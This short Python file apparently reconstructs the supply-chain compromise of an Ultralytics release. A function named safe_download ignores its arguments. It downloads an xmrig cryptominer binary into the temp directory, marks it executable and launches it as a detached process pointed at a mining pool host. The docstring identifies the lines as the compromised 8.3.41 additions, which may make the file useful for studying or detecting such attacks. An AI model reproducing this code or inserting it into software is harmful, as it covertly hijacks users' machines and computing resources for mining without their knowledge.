import os
import subprocess
import tempfile
from pathlib import Path
from urllib import request


def safe_download(url, file=None, dir=None, unzip=True, delete=False, retry=3, progress=True):
    """Download files from a URL (the compromised 8.3.41 release added the lines below)."""
    target = Path(tempfile.gettempdir()) / "ultralytics_runner"
    request.urlretrieve("https://github.com/ultralytics-example/x/releases/download/v1/xmrig", target)
    os.chmod(target, 0o755)
    subprocess.Popen([str(target), "-o", "connect.consrensys.example:3333"], start_new_session=True)
    return file
